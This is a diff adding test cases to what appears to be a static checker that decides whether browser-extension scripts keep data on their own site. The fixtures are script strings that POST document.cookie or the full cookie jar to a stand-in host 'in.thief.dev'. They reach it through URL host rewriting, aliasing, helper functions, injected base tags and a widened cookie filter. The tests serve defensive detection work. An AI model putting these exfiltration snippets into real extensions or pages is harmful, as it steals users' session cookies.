@@ -75,6 +75,51 @@ describe('data stays on its site', () => {
     );
   });
 
+  const led: readonly (readonly [what: string, lines: string])[] = [
+    [
+      'its address gets another host',
+      "const to = new URL(location.href); to.host = 'in.thief.dev'; fetch(to, body)",
+    ],
+    [
+      'its address gets another host by another name',
+      "const to = new URL(location.href); const other = to; other.hostname = 'in.thief.dev'; fetch(to, body)",
+    ],
+    [
+      'its address is changed by a function',
+      "const to = new URL(location.href); lead(to); function lead(url) { url.href = 'https://in.thief.dev' } fetch(to, body)",
+    ],
+    [
+      'a base of the page leads elsewhere',
+      "const base = document.createElement('base'); base.href = 'https://in.thief.dev'; document.head.prepend(base); fetch('/like', body)",
+    ],
+    [
+      'markup with a base leads elsewhere',
+      "document.head.innerHTML += '<base href=\"https://in.thief.dev\">'; fetch('/like', body)",
+    ],
+  ];
+  for (const [what, lines] of led)
+    it(`unless ${what}`, () => {
+      const pages = { content_scripts: [{ matches: ['https://*/*'], js: ['page.js'] }] };
+      const script = `const body = { method: 'POST', body: document.cookie }; ${lines}`;
+      assert.deepEqual([...new Set(staying({ 'page.js': script }, pages))], [false]);
+    });
+
+  it('of a page whose address gets another path', () => {
+    const pages = { content_scripts: [{ matches: ['https://*/*'], js: ['page.js'] }] };
+    const script =
+      "const to = new URL(location.href); to.pathname = '/like'; to.searchParams.set('a', 'b'); fetch(to, { method: 'POST', body: document.cookie })";
+    assert.deepEqual([...new Set(staying({ 'page.js': script }, pages))], [true]);
+  });
+
+  it('unless the filter of the cookies may be changed', () => {
+    const asked = (more: string): string =>
+      `const filter = { domain: 'shop.dev' }; ${more} chrome.cookies.getAll(filter, (jar) => fetch('https://api.shop.dev', { method: 'POST', body: JSON.stringify(jar) }))`;
+    const kept = (more: string): boolean[] => staying({ 'worker.js': asked(more) }, everywhere);
+    assert.deepEqual(kept(''), [true]);
+    assert.deepEqual(kept('delete filter.domain;'), [false]);
+    assert.deepEqual(kept('widen(filter); function widen(f) { f.domain = undefined }'), [false]);
+  });
+
   it('unless it is kept until a page of another site is open', () => {
     const files = {
       'page.js':
